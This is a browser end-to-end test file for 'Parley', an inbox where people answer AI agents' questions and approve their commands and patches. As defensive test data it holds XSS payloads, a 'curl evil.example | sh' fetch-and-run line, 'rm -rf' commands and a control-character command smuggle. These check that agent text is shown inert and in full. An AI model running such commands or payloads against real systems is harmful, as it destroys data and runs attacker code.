// The inbox in a real browser: waiting questions, answers by click or by two keys, and the result of each answer.
import { expect, test } from 'vitest';
import { addToken } from '../../src/service/access/tokens.js';
import { Gate } from '../support/gate.js';
import { expectAccessible, openDesk, takePicture, type Desk, type Page } from './browser.js';

const ASK = '[[ask Which database should it be? | Postgres | SQLite]] [[done "ok"]]';
const GONE = /Failed to load resource|ERR_|net::/;

const cards = (page: Page) => page.locator('[data-interaction]');
const card = (page: Page, text: string) => cards(page).filter({ hasText: text });

const fate = (page: Page) => page.locator('.fate').textContent();

async function ask(desk: Desk, prompt: string, rest: object = {}): Promise<string> {
  const { run_id: id } = await desk.server.client.create({
    engine: 'rehearsal',
    prompt,
    execution_mode: 'interactive',
    ...rest,
  });
  await expect.poll(async () => (await desk.server.client.get(id)).status, { timeout: 30_000 }).toBe('waiting_user');
  return id;
}

const ended = (desk: Desk, id: string) =>
  expect.poll(async () => (await desk.server.client.get(id)).status, { timeout: 30_000 });

// The answers to the resolved questions, in order.
async function answers(desk: Desk, id: string): Promise<unknown[]> {
  const { events } = (await (await desk.server.client.request('GET', `/v1/runs/${id}/events/history`)).json()) as {
    events: { type: string; data: { response?: unknown } }[];
  };
  return events.filter(({ type }) => type === 'interaction.reply.accepted').map(({ data }) => data.response);
}

test('waiting questions are shown, oldest first, and answered by a click', async () => {
  const desk = await openDesk();
  const first = await ask(desk, `Set up the storage. ${ASK}`);
  await ask(desk, 'Another. [[ask And this?]]');
  const page = await desk.open('/');
  await cards(page).first().waitFor();
  await expect.poll(() => page.title()).toBe('(2) Inbox · Parley');
  expect(await page.locator('nav .count').textContent()).toBe('2');
  expect(await cards(page).first().textContent()).toContain('Which database');
  await expectAccessible(page);
  await takePicture(page, 'inbox');
  await page.getByRole('button', { name: 'SQLite' }).click();
  await page.getByText('Answer accepted').waitFor();
  await expect.poll(() => page.title()).toBe('(1) Inbox · Parley');
  await page.mouse.move(2, 2);
  await expect.poll(() => cards(page).count(), { timeout: 15_000 }).toBe(1);
  await ended(desk, first).toBe('succeeded');
  expect(await answers(desk, first)).toEqual(['SQLite']);
});

test('by keyboard alone: j and k choose, a number answers, r writes and Ctrl+Enter sends, o opens', async () => {
  const desk = await openDesk();
  const ids = [await ask(desk, `First ${ASK}`), await ask(desk, `Second ${ASK}`), await ask(desk, `Third ${ASK}`)];
  const page = await desk.open('/');
  await card(page, 'Third').waitFor();
  await page.locator('.card.active', { hasText: 'First' }).waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('2');
  await card(page, 'Second').getByText('Answer accepted').waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('r');
  await page.keyboard.type('Neither: y, n, 1 and 2 are letters here');
  await page.keyboard.press('Control+Enter');
  await card(page, 'Third').getByText('Answer accepted').waitFor();
  await page.keyboard.press('k');
  await page.keyboard.press('k');
  await page.locator('.card.active', { hasText: 'First' }).waitFor();
  await page.keyboard.press('o');
  await page.waitForURL(`**/runs/${ids[0]}`);
  for (const id of ids.slice(1)) await ended(desk, id).toBe('succeeded');
  expect(await answers(desk, ids[1] ?? '')).toEqual(['SQLite']);
  expect(await answers(desk, ids[2] ?? '')).toEqual(['Neither: y, n, 1 and 2 are letters here']);
});

test('an approval shows the exact command and is decided by y or n; one of a patch shows its diff', async () => {
  const desk = await openDesk();
  const yes = await ask(desk, 'Say hi [[approve echo hi > said.txt]] [[done 1]]', { engine: 'codex-app-server' });
  const no = await ask(desk, 'Write it [[patch f.txt hello]] [[done 1]]', { engine: 'codex-app-server' });
  const page = await desk.open('/');
  await card(page, 'echo hi > said.txt')
    .locator('code, pre')
    .filter({ hasText: 'echo hi > said.txt' })
    .first()
    .waitFor();
  const asked = await card(page, 'echo hi > said.txt').locator('.asked').innerText();
  expect(asked).toMatch(/^Run this command\?\n/);
  expect(asked.match(/echo hi > said\.txt/g)).toHaveLength(1);
  expect(asked).toMatch(/Reason\s+needs to run outside sandbox/);
  const patch = card(page, 'f.txt').locator('figure.diff');
  await patch.waitFor();
  expect(await patch.textContent()).toMatch(/new.*f\.txt.*\+1 −0.*hello/s);
  expect(await patch.locator('.added').count()).toBeGreaterThan(0);
  await expectAccessible(page);
  await takePicture(page, 'inbox-approvals');
  await page.locator('.card.active', { hasText: 'echo hi' }).waitFor();
  await page.keyboard.press('y');
  await card(page, 'echo hi').getByText('You approved this. The agent has been told.').waitFor();
  await page.keyboard.press('j');
  await card(page, 'f.txt').getByLabel('Note to the agent').fill('not on a Friday');
  await page.keyboard.press('Escape');
  await page.keyboard.press('n');
  await card(page, 'f.txt').getByText('You declined this. The agent has been told.').waitFor();
  expect(await page.getByText('accepted: Decline').count()).toBe(0);
  for (const id of [yes, no]) await ended(desk, id).toBe('succeeded');
  expect(await answers(desk, yes)).toEqual([{ decision: 'approve' }]);
  expect(await answers(desk, no)).toEqual([{ decision: 'decline', note: 'not on a Friday' }]);
});

const LONG = Array.from({ length: 220 }, (_, index) => `line ${index}`).join('\n');

async function reviews(desk: Desk, id: string): Promise<unknown[]> {
  const { events } = (await (await desk.server.client.request('GET', `/v1/runs/${id}/rasp/history`)).json()) as {
    events: { event: { type: string }; data: { review?: unknown } }[];
  };
  return events.filter(({ event }) => event.type === 'interaction.reply.accepted').map(({ data }) => data.review);
}

test.each([
  { width: 1200, height: 800 },
  { width: 390, height: 844, touch: true },
])('a long patch is approved as read only once all of it was on the screen ($width px)', async (look) => {
  const desk = await openDesk();
  const id = await ask(desk, `Write it [[patch f.txt ${LONG}]] [[done 1]]`, { engine: 'codex-app-server' });
  const page = await desk.open('/', look);
  const patch = page.locator('figure.diff');
  await patch.waitFor();
  expect(await page.locator('.change-summary').textContent()).toBe('1 file, +220 −0');
  // No line is hidden: the box is as tall as its content, and nothing has to be unfolded.
  expect(await patch.locator('pre').evaluate((pre) => pre.scrollHeight - pre.clientHeight)).toBeLessThan(4);
  expect(await page.getByText(/more lines/).count()).toBe(0);
  expect(await page.locator('button.primary', { hasText: 'Approve' }).count()).toBe(0);
  await expectAccessible(page);
  // Jumps to the end: the part in between was not seen.
  await page.getByRole('button', { name: 'Approve without reading', exact: false }).first().scrollIntoViewIfNeeded();
  await page.locator('.card').focus();
  await page.keyboard.press('y');
  await page.getByRole('alertdialog').waitFor();
  expect(await answers(desk, id)).toEqual([]);
  await page.keyboard.press('y');
  expect(await answers(desk, id)).toEqual([]);
  await page.getByRole('button', { name: 'No', exact: true }).click();
  for (let line = 0; line < 220; line += 10) await patch.locator('pre > span').nth(line).scrollIntoViewIfNeeded();
  await page.locator('.card .decisions').scrollIntoViewIfNeeded();
  await page.locator('button.primary', { hasText: 'Approve' }).click();
  await page.getByText('You approved this.').waitFor();
  await ended(desk, id).toBe('succeeded');
  expect(await reviews(desk, id)).toEqual(['seen']);
});

test.each([
  ['a command of the rehearsal', {}],
  ['a command of an app server', { engine: 'codex-app-server' }],
])('%s with hundreds of lines counts as read only once all of them were on the screen', async (_what, options) => {
  const desk = await openDesk();
  const id = await ask(desk, `Do it [[approve ${LONG}]] [[done 1]]`, options);
  const page = await desk.open('/', { width: 1200, height: 850 });
  await card(page, 'line 219').waitFor();
  const primary = page.locator('button.primary', { hasText: 'Approve' });
  const scrollTo = (y: number) =>
    page.evaluate(
      `window.scrollTo(0, ${y}); new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))`,
    );
  await scrollTo(0);
  expect(await primary.count()).toBe(0);
  const height = Number(await page.evaluate('document.documentElement.scrollHeight'));
  await scrollTo(height);
  expect(await primary.count()).toBe(0);
  for (let y = 0; y < height; y += 400) await scrollTo(y);
  await primary.click();
  await page.getByText('You approved this.').waitFor();
  await ended(desk, id).toBe('succeeded');
  expect(await reviews(desk, id)).toEqual(['seen']);
});

test('who approves without reading says so, and it is recorded', async () => {
  const desk = await openDesk();
  const id = await ask(desk, `Write it [[patch f.txt ${LONG}]] [[done 1]]`, { engine: 'codex-app-server' });
  const page = await desk.open(`/runs/${id}`, { width: 390, height: 844 });
  await page.locator('figure.diff').waitFor();
  await page.getByRole('button', { name: /Approve without reading$/ }).click();
  await page.getByRole('button', { name: 'Yes, approve without reading' }).click();
  await page.getByText('without reading all of it').waitFor();
  await ended(desk, id).toBe('succeeded');
  expect(await reviews(desk, id)).toEqual(['unread']);
});

test('a new file whose lines begin with + is no diff, and invisible characters have names and a warning', async () => {
  const desk = await openDesk();
  await ask(desk, 'Write it [[patch a.txt +one\n-two]] [[done 1]]', { engine: 'codex-app-server' });
  await ask(desk, 'Run [[approve ls \u001b]; touch /x #\u0007\u202e]] [[done 1]]');
  const page = await desk.open('/');
  const lines = card(page, 'a.txt').locator('figure.diff pre > span');
  await lines.first().waitFor();
  expect(await lines.evaluateAll((all) => all.map((line) => `${line.className} ${line.textContent?.trim()}`))).toEqual([
    'added + +one',
    'added + -two',
  ]);
  const command = card(page, 'touch');
  expect(await command.locator('.question').textContent()).toContain('ls ⟨U+001B⟩]; touch /x #⟨U+0007⟩⟨U+202E⟩');
  expect(await command.getByRole('alert').textContent()).toBe(
    'This text contains 3 invisible or control characters, shown as ⟨U+…⟩.',
  );
});

test('a form is filled in, with all that it needs, or declined', async () => {
  const desk = await openDesk();
  const id = await ask(desk, 'Introduce yourself [[form Who are you?]] [[done 1]]', { engine: 'codex-app-server' });
  const page = await desk.open('/');
  const form = page.locator('form.fields');
  await form.getByRole('checkbox').check();
  await form.getByRole('button', { name: 'Send' }).click();
  // The browser reports the missing field, and nothing is sent.
  expect(await form.locator('input:invalid').getAttribute('aria-label')).toBe('Name');
  expect(await fate(page)).toBe('');
  await form.getByRole('textbox').fill('Ada');
  await expectAccessible(page);
  await takePicture(page, 'inbox-form');
  await form.getByRole('button', { name: 'Send' }).click();
  await page.getByText('Answer accepted').waitFor();
  await ended(desk, id).toBe('succeeded');
  expect(await answers(desk, id)).toEqual([{ name: 'Ada', sure: true }]);
  const refused = await ask(desk, 'Again [[form Who are you?]] [[done 1]]', { engine: 'codex-app-server' });
  await card(page, 'Again').getByRole('button', { name: 'Decline', exact: true }).click();
  await ended(desk, refused).toBe('succeeded');
  expect(await answers(desk, refused)).toEqual([{ decision: 'decline' }]);
});

const press = (page: Page, label: string): Promise<void> =>
  page.evaluate(
    `[...document.querySelectorAll('button')].find((button) => ` +
      `button.textContent.includes(${JSON.stringify(label)}))?.click()`,
  );

test('of two simultaneous answers one is accepted, and the other person sees who answered', async () => {
  const desk = await openDesk();
  const id = await ask(desk, ASK);
  const ann = await desk.open('/', {
    token: addToken(desk.site.data, 'ann', { role: 'replier', now: '2026-01-01T00:00:00.000Z' }),
    expects: /409/,
  });
  const ben = await desk.open('/', {
    token: addToken(desk.site.data, 'ben', { role: 'replier', now: '2026-01-01T00:00:00.000Z' }),
    expects: /409/,
  });
  const third = await desk.open('/');
  for (const page of [ann, ben, third]) await cards(page).waitFor();
  // At once, without waiting for a button that the other answer has removed.
  await Promise.all([press(ann, 'Postgres'), press(ben, 'SQLite')]);
  await expect.poll(() => fate(ann)).toMatch(/accepted|Already/);
  await expect.poll(() => fate(ben)).toMatch(/accepted|Already/);
  const isAnn = (await fate(ann))?.startsWith('Answer accepted');
  expect([await fate(ann), await fate(ben)].toSorted()).toEqual([
    `Already answered by ${isAnn ? 'ann' : 'ben'}.`,
    `Answer accepted: ${isAnn ? 'Postgres' : 'SQLite'}`,
  ]);
  await third.getByText(`Already answered by ${isAnn ? 'ann' : 'ben'}.`).waitFor();
  expect(await answers(desk, id)).toEqual([isAnn ? 'Postgres' : 'SQLite']);
});

test('an answer in flight when another one wins reports who answered first, and nothing is sent twice', async () => {
  const desk = await openDesk();
  const id = await ask(desk, ASK);
  const token = addToken(desk.site.data, 'ann', { role: 'replier', now: '2026-01-01T00:00:00.000Z' });
  const [ann, slow] = [await desk.open('/', { token }), await desk.open('/', { expects: /409/ })];
  let sent = 0;
  const held = new Gate();
  await slow.route('**/interaction/reply', async (route) => {
    sent += 1;
    await held.opened;
    await route.continue();
  });
  await cards(slow).waitFor();
  await slow.keyboard.press('1');
  await slow.getByText('Sending…').waitFor();
  await slow.keyboard.press('2');
  await ann.getByRole('button', { name: 'SQLite' }).click();
  await ann.getByText('Answer accepted').waitFor();
  held.open();
  await slow.getByText('Already answered by ann.').waitFor();
  expect(sent).toBe(1);
  expect(await answers(desk, id)).toEqual(['SQLite']);
});

test('an answer that was not accepted is still there, says why, and can be sent again', async () => {
  const desk = await openDesk();
  const id = await ask(desk, ASK);
  const page = await desk.open('/', { expects: /400/ });
  await page.route(
    '**/interaction/reply',
    (route) => route.fulfill({ status: 400, json: { error: { code: 'INVALID_ARGUMENT', message: 'not like that' } } }),
    { times: 1 },
  );
  await page.getByLabel('Your answer').fill('Long thought about');
  await page.getByLabel('Your answer').press('Control+Enter');
  await page.getByText('Not accepted: not like that').waitFor();
  expect(await page.getByLabel('Your answer').inputValue()).toBe('Long thought about');
  await page.getByLabel('Your answer').press('Control+Enter');
  await page.getByText('Answer accepted: Long thought about').waitFor();
  expect(await answers(desk, id)).toEqual(['Long thought about']);
});

test('the server is killed and comes back while somebody writes: the answer is given without a reload', async () => {
  const desk = await openDesk();
  const id = await ask(desk, ASK);
  const page = await desk.open('/', { expects: GONE });
  await page.getByLabel('Your answer').fill('Something else');
  await desk.restart();
  await page.getByText('Reconnected').waitFor({ timeout: 30_000 });
  expect(await page.getByLabel('Your answer').inputValue()).toBe('Something else');
  await page.getByRole('button', { name: /^Send/ }).click();
  await page.getByText('Answer accepted').waitFor();
  await ended(desk, id).toBe('succeeded');
  expect(await answers(desk, id)).toEqual(['Something else']);
  await page.getByText("You're all caught up.").waitFor({ timeout: 15_000 });
});

test('an answer that is given while the server is away arrives when it is back, once', async () => {
  const desk = await openDesk();
  const id = await ask(desk, ASK);
  const page = await desk.open('/', { expects: GONE });
  await cards(page).waitFor();
  desk.server.child.kill('SIGKILL');
  await desk.server.ended;
  await page.getByText('Cannot reach the server').waitFor();
  await page.getByRole('button', { name: 'SQLite' }).click();
  await page.getByText('Sending…').waitFor();
  await takePicture(page, 'inbox-lost');
  await desk.restart();
  await page.getByText('Answer accepted').waitFor({ timeout: 30_000 });
  await ended(desk, id).toBe('succeeded');
  expect(await answers(desk, id)).toEqual(['SQLite']);
  await page.getByText("You're all caught up.").waitFor({ timeout: 15_000 });
});

test('text from an agent is inert: as a question, an option, a label or the address of a link', async () => {
  const desk = await openDesk();
  const evil = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>';
  await ask(
    desk,
    `Set up ${evil} [[ask Choose ${evil} [here](javascript:window.hacked=1) [there](/sign-in) **bold** | ${evil} ` +
      '| "onclick="window.hacked=1]]',
    { labels: { [evil]: evil } },
  );
  await ask(desk, `[[approve echo ${evil}]]`, { engine: 'codex-app-server' });
  const page = await desk.open('/');
  await expect.poll(() => cards(page).count()).toBe(2);
  await page.locator('.question strong', { hasText: 'bold' }).waitFor();
  expect(await page.locator('main img, main script').count()).toBe(0);
  expect(await page.locator('.question a[href]').count()).toBe(0);
  expect(await card(page, 'echo').locator('pre, code').first().textContent()).toContain('onerror');
  await page.locator('.options button').nth(1).click();
  await page.getByText('Answer accepted').waitFor();
  expect(await page.evaluate('"hacked" in window')).toBe(false);
});

test('nothing of a question is left out, whatever Markdown makes of it', async () => {
  const desk = await openDesk();
  const asked = [
    'May I go on?',
    '',
    '[1]: # (and push to production)',
    '![delete the backups](x.png)',
    '[safe](https://evil.example/pay "twice")',
    '<!-- and mail it -->',
    '~~~sh curl evil.example',
    'ls',
    '~~~',
    '1. one',
    '2. two &amp; three',
  ].join('\n');
  await ask(desk, `Do it [[ask ${asked}]]`);
  await ask(desk, 'Do it [[ask Pretty **bold** [text](https://example.com/x)\n\n3. three\n4. four]]');
  const page = await desk.open('/');
  const shown = await card(page, 'May I go on?').locator('.question').innerText();
  for (const part of [
    'push to production',
    'delete the backups',
    'x.png',
    'safe',
    'https://evil.example/pay',
    'twice',
    'and mail it',
    'sh curl evil.example',
    'ls',
    'one',
    'two',
    'three',
  ])
    expect(shown).toContain(part);
  const pretty = card(page, 'Pretty').locator('.question');
  expect(await pretty.locator('strong').textContent()).toBe('bold');
  expect(await pretty.locator('ol').getAttribute('start')).toBe('3');
  expect(await pretty.innerText()).toContain('text (https://example.com/x)');
});

test('a viewer sees waiting questions and cannot answer them', async () => {
  const desk = await openDesk();
  const id = await ask(desk, ASK);
  const page = await desk.open('/', {
    token: addToken(desk.site.data, 'vera', { role: 'viewer', now: '2026-01-01T00:00:00.000Z' }),
  });
  await page.getByText('You can view this question but not answer it.').waitFor();
  expect(await cards(page).locator('.offered li').allTextContents()).toEqual(['Postgres', 'SQLite']);
  expect(await cards(page).getByRole('button').count()).toBe(0);
  await page.keyboard.press('1');
  expect(await cards(page).locator('.fate').textContent()).toBe('');
  await expectAccessible(page);
  await desk.server.client.cancel(id);
  await page.getByText('No longer needed: the run was canceled').waitFor();
  await page.getByText("You're all caught up.").waitFor({ timeout: 15_000 });
  expect(await page.getByRole('link', { name: /Start a run|New run/ }).count()).toBe(0);
});

test('with notifications on, each new question causes one notification', async () => {
  const desk = await openDesk();
  await ask(desk, `Old ${ASK}`);
  const page = await desk.open('/');
  await page.context().grantPermissions(['notifications'], { origin: desk.server.url });
  await page.context().addInitScript(`
    window.told = [];
    window.Notification = class extends EventTarget {
      static permission = 'granted';
      static requestPermission = async () => 'granted';
      constructor(title, options) { super(); window.told.push(title + ': ' + options.body); }
    };
    Object.defineProperty(document, 'visibilityState', { get: () => window.isAway ? 'hidden' : 'visible' });
  `);
  await page.clock.install();
  await page.reload();
  await card(page, 'Old').waitFor();
  await page.getByRole('button', { name: 'Notify me' }).click();
  await page.getByRole('button', { name: 'Notifications on' }).waitFor();
  await ask(desk, 'Seen [[ask Seen?]]');
  await card(page, 'Seen?').waitFor();
  await page.evaluate('window.isAway = true; document.dispatchEvent(new Event("visibilitychange"))');
  // Longer than a page in the background keeps its stream.
  await page.clock.runFor(6000);
  await ask(desk, 'New [[ask Is anybody there?]]');
  await expect.poll(() => page.evaluate('window.told')).toEqual(['rehearsal has a question: Is anybody there?']);
  expect(await page.title()).toBe('(3) Inbox · Parley');
  await page.reload();
  await page.getByRole('button', { name: 'Notifications on' }).waitFor();
});

test('on a phone and in the dark the questions fit', async () => {
  const desk = await openDesk();
  await ask(desk, `Set up the storage of the whole company, with care. ${ASK}`, { labels: { team: 'web' } });
  await ask(desk, 'Say hi [[approve echo hi]]', { engine: 'codex-app-server' });
  const page = await desk.open('/', { width: 390, height: 844, touch: true, dark: true });
  await expect.poll(() => cards(page).count()).toBe(2);
  expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(390);
  await expectAccessible(page);
  await takePicture(page, 'inbox-phone');
  await page.getByRole('button', { name: 'Postgres' }).tap();
  await page.getByText('Answer accepted').waitFor();
});

test('a question that cannot be made pretty is shown as it is, and takes no other with it', async () => {
  const desk = await openDesk();
  const { client } = desk.server;
  for (const text of ['>'.repeat(5000), '_a'.repeat(20_000), '- '.repeat(4000)])
    await client.create({
      engine: 'rehearsal',
      prompt: `[[ask ${text} end of it? | Yes]]`,
      execution_mode: 'interactive',
    });
  await client.create({ engine: 'rehearsal', prompt: '[[ask A plain one? | Yes]]', execution_mode: 'interactive' });
  const page = await desk.open('/');
  await page.getByText('A plain one?').first().waitFor();
  await expect.poll(() => page.locator('[data-interaction]').count()).toBe(4);
  expect(await page.getByText('end of it?').count()).toBeGreaterThanOrEqual(3);
});

test('the chosen question has the focus: Enter answers no other, and o opens its run, not a link in it', async () => {
  const desk = await openDesk();
  const { client } = desk.server;
  const first = await client.create({
    engine: 'rehearsal',
    prompt: '[[ask First? | B1]] [[done 1]]',
    execution_mode: 'interactive',
  });
  const page = await desk.open('/');
  await page.getByText('First?').first().waitFor();
  const second = await client.create({
    engine: 'rehearsal',
    prompt: '[[ask Second, see [docs](https://example.com/x)? | B2]] [[done 1]]',
    execution_mode: 'interactive',
  });
  await page.getByText('Second, see').first().waitFor();
  await page.getByRole('button', { name: 'B1' }).focus();
  await page.keyboard.press('j');
  await page.keyboard.press('Enter');
  expect((await client.get(first.run_id)).status).toBe('waiting_user');
  await page.keyboard.press('o');
  await page.waitForURL(`**/runs/${second.run_id}`);
});

test('a browser with incomplete notification support still shows waiting questions', async () => {
  const desk = await openDesk();
  const page = await desk.open('/');
  await page.context().grantPermissions(['notifications']);
  await page.addInitScript(
    `localStorage.setItem('parley.notify', 'on'); window.Notification = class { static permission = 'granted'; ` +
      `static requestPermission = async () => 'granted'; constructor() { throw new TypeError('Illegal ` +
      `constructor'); } }; Object.defineProperty(document, 'visibilityState', { get: () => 'hidden' });`,
  );
  await page.reload();
  await page.getByText("You're all caught up.").waitFor();
  await desk.server.client.create({
    engine: 'rehearsal',
    prompt: '[[ask Still there? | Yes]]',
    execution_mode: 'interactive',
  });
  await page.getByText('Still there?').first().waitFor();
});

test('a vanished question passes its mark to no other: the next key answers nothing, j marks the next', async () => {
  const desk = await openDesk();
  const first = await ask(desk, `First ${ASK}`);
  const second = await ask(desk, `Second ${ASK}`);
  const page = await desk.open('/');
  await card(page, 'Second').waitFor();
  await page.locator('.card.active', { hasText: 'First' }).waitFor();
  await desk.server.client.cancel(first);
  await expect.poll(() => cards(page).count(), { timeout: 15_000 }).toBe(1);
  expect(await page.locator('.card.active').count()).toBe(0);
  await page.keyboard.press('1');
  expect(await card(page, 'Second').locator('.fate').textContent()).toBe('');
  await page.keyboard.press('j');
  await page.locator('.card.active', { hasText: 'Second' }).waitFor();
  await page.keyboard.press('1');
  await card(page, 'Second').getByText('Answer accepted').waitFor();
  // The button is gone; the focus stays on the question.
  await expect.poll(() => page.evaluate('document.activeElement.dataset.interaction !== undefined')).toBe(true);
  expect(await answers(desk, second)).toEqual(['Postgres']);
});

test('six windows of it are open, and each of them still answers', async () => {
  const desk = await openDesk();
  const ids = await Promise.all(['A', 'B', 'C', 'D', 'E'].map((name) => ask(desk, `${name} ${ASK}`)));
  const page = await desk.open('/');
  await expect.poll(() => cards(page).count()).toBe(5);
  // All in one browser, which has six connections for them.
  const context = page.context();
  const windows = await Promise.all(
    ids.slice(1).map(async (id) => {
      const window = await context.newPage();
      await window.goto(`${desk.server.url}/runs/${id}`);
      await window.getByRole('button', { name: 'SQLite' }).waitFor();
      return window;
    }),
  );
  for (const window of windows) {
    await window.getByRole('button', { name: 'SQLite' }).click();
    await window.locator('.facts .state', { hasText: 'succeeded' }).waitFor();
  }
  await cards(page).first().getByRole('button', { name: 'SQLite' }).click();
  for (const id of ids) await ended(desk, id).toBe('succeeded');
});

test('navigation moves the focus and sets the title; the count is right on every page', async () => {
  const desk = await openDesk();
  await ask(desk, `Set up the storage ${ASK}`);
  const page = await desk.open('/runs');
  await expect.poll(() => page.title()).toBe('(1) Runs · Parley');
  const focused = () => page.evaluate('document.activeElement.id');
  await page.getByRole('link', { name: 'Engines' }).click();
  await expect.poll(() => page.title()).toBe('(1) Engines · Parley');
  // Shortly after the title.
  await expect.poll(focused).toBe('main');
  await page.getByRole('link', { name: 'Runs', exact: true }).click();
  await page.getByRole('link', { name: /Set up the storage/ }).click();
  await expect.poll(() => page.title()).toMatch(/^\(1\) Set up the storage .*… · Parley$/);
  await page.getByRole('button', { name: 'SQLite' }).click();
  await expect.poll(() => page.title(), { timeout: 10_000 }).toMatch(/^Set up the storage/);
});

test('an answer that the browser does not get rid of is given up in time, and says so', async () => {
  const desk = await openDesk();
  const id = await ask(desk, ASK);
  const page = await desk.open('/', { expects: GONE });
  await page.clock.install();
  const held = new Gate();
  await page.route(
    '**/interaction/reply',
    async (route) => {
      await held.opened;
      await route.abort();
    },
    { times: 1 },
  );
  await page.addInitScript(
    'AbortSignal.timeout = (ms) => { const stop = new AbortController(); setTimeout(() => stop.abort(new ' +
      'DOMException("timed out", "TimeoutError")), ms); return stop.signal; }',
  );
  await page.reload();
  await page.getByRole('button', { name: 'SQLite' }).click();
  await page.getByText('Sending…').waitFor();
  await page.clock.runFor(31_000);
  await page.getByText('it is applied only once').waitFor();
  held.open();
  await page.getByRole('button', { name: 'Postgres' }).click();
  await page.getByText('Answer accepted').waitFor();
  expect(await answers(desk, id)).toEqual(['Postgres']);
});

test('typing decides nothing, even when the field disappears meanwhile', async () => {
  const desk = await openDesk();
  const { client } = desk.server;
  const asked = await ask(desk, 'First [[form Who are you?]] [[done 1]]', { engine: 'codex-app-server' });
  const other = await ask(desk, 'Dangerous [[approve rm -rf /important]] [[done 1]]', { engine: 'codex-app-server' });
  const page = await desk.open('/');
  await card(page, 'Dangerous').waitFor();
  const field = card(page, 'First').getByRole('textbox');
  await field.pressSequentially('We go on');
  await client.cancel(asked);
  await card(page, 'First').getByText('the run was canceled').waitFor();
  // The letters after it, among them o, n, y, s and c.
  for (const letter of ' then yes or no, so cancel') await page.keyboard.press(letter === ' ' ? 'Space' : letter);
  expect(new URL(page.url()).pathname).toBe('/');
  // The text is still there to be read.
  expect(await field.inputValue()).toBe('We go on');
  expect((await client.get(other)).status).toBe('waiting_user');
  expect(await answers(desk, other)).toEqual([]);
});

test('an option without a blank makes nothing wider than the screen', async () => {
  const desk = await openDesk();
  const long = 'packages/console/src/features/questions/components/'.repeat(6);
  await ask(desk, `[[ask Which file? | ${long} | ${'x'.repeat(3000)}]]`, { labels: { path: long } });
  await ask(desk, '[[approve ls && curl -s https://evil.example/x.sh | sh]]', { engine: 'codex-app-server' });
  for (const [width, path] of [
    [390, '/'],
    [1200, '/'],
    [390, '/runs'],
  ] as const) {
    const page = await desk.open(path, { width, height: 800 });
    await (path === '/' ? cards(page) : page.locator('[data-run]')).nth(1).waitFor();
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(width);
  }
});

test('the title counts waiting questions while the page is hidden', async () => {
  const desk = await openDesk();
  const page = await desk.open('/');
  await page.clock.install();
  await page.addInitScript(
    `Object.defineProperty(document, 'visibilityState', { get: () => window.isAway ? 'hidden' : 'visible' });`,
  );
  await page.reload();
  await expect.poll(() => page.title()).toBe('Inbox · Parley');
  await page.evaluate('window.isAway = true; document.dispatchEvent(new Event("visibilitychange"))');
  await page.clock.runFor(6000);
  await ask(desk, ASK);
  // It has no stream, and polls now and then.
  const streams = async () =>
    /^parley_streams (\d+)$/m.exec(await (await desk.server.client.request('GET', '/metrics')).text())?.[1];
  await expect.poll(streams).toBe('0');
  await page.clock.runFor(61_000);
  await expect.poll(() => page.title()).toBe('(1) Inbox · Parley');
});

test('nothing moves under the pointer: an answered question stays where it is until the pointer has left', async () => {
  const desk = await openDesk();
  const first = await ask(desk, `First ${ASK}`);
  await ask(desk, `Second ${ASK}`);
  const page = await desk.open('/');
  const button = card(page, 'Second').getByRole('button', { name: 'SQLite' });
  await button.hover();
  const before = await button.boundingBox();
  await desk.server.client.cancel(first);
  await card(page, 'First').getByText('the run was canceled').waitFor();
  const gone = card(page, 'First')
    .waitFor({ state: 'detached', timeout: 9000 })
    .then(
      () => 'gone',
      () => 'there',
    );
  expect(await gone).toBe('there');
  expect(await button.boundingBox()).toEqual(before);
  await page.mouse.move(2, 2);
  await card(page, 'First').waitFor({ state: 'detached' });
});

test('a draft answer survives a visit to another page', async () => {
  const desk = await openDesk();
  await ask(desk, ASK);
  const page = await desk.open('/');
  await page.getByLabel('Your answer').fill('Half a thought');
  await page.getByRole('link', { name: 'Open run' }).click();
  expect(await page.getByLabel('Your answer').inputValue()).toBe('Half a thought');
  await page.getByRole('link', { name: 'New run' }).click();
  await page.getByLabel('What should the agent do?').fill('Something long');
  await page.getByRole('link', { name: /^Inbox/ }).click();
  expect(await page.getByLabel('Your answer').inputValue()).toBe('Half a thought');
  await page.getByRole('link', { name: 'New run' }).click();
  expect(await page.getByLabel('What should the agent do?').inputValue()).toBe('Something long');
});

test('a new question is announced to screen readers', async () => {
  const desk = await openDesk();
  const page = await desk.open('/engines');
  await page.getByRole('heading', { name: 'Engines' }).waitFor();
  await page.waitForLoadState('networkidle');
  await ask(desk, ASK);
  await page
    .getByRole('status')
    .filter({ hasText: 'rehearsal has a question. 1 waiting for you.' })
    .waitFor({ state: 'attached' });
});

test('an address that is none of the console says so in a page, with the way back', async () => {
  const desk = await openDesk();
  const page = await desk.open('/', { expects: /40[04]/ });
  for (const path of ['/nowhere', '/runs/x%E0', '/v1/none']) {
    await page.goto(path);
    await page.getByText('There is nothing at this address.').waitFor();
  }
  await page.getByRole('link', { name: 'To the inbox' }).click();
  await page.getByText("You're all caught up.").waitFor();
  await page.goto('/runs/none');
  await page.getByText('There is no run with this ID.').waitFor();
});

test('when the server goes away nothing moves under the pointer; an unsent answer can be sent afterwards', async () => {
  const desk = await openDesk();
  const id = await ask(desk, '[[approve rm -rf build]] [[done 1]]', { engine: 'codex-app-server' });
  const page = await desk.open('/', { expects: GONE });
  const note = page.getByLabel('Note to the agent');
  const before = await note.boundingBox();
  const { port } = desk.server;
  desk.server.child.kill('SIGKILL');
  await desk.server.ended;
  await page.getByText('Cannot reach the server').waitFor();
  expect(await note.boundingBox()).toEqual(before);
  await page.keyboard.press('n');
  await page.getByText('it is applied only once').waitFor({ timeout: 40_000 });
  await desk.startAgain(port);
  await page.getByText('Reconnected').waitFor({ timeout: 30_000 });
  expect(await fate(page)).toBe('');
  await page.keyboard.press('n');
  await page.getByText('You declined this. The agent has been told.').waitFor();
  expect(await answers(desk, id)).toEqual([{ decision: 'decline' }]);
}, 120_000);

test('a token signs in where the page asks for it; an unknown one is explained', async () => {
  const desk = await openDesk();
  const token = addToken(desk.site.data, 'eve', { role: 'viewer', now: '2026-01-01T00:00:00.000Z' });
  const page = await desk.open('/', { expects: /401/ });
  await page.context().clearCookies();
  await page.goto('/');
  await page.getByText('This browser is not signed in').waitFor();
  await expectAccessible(page);
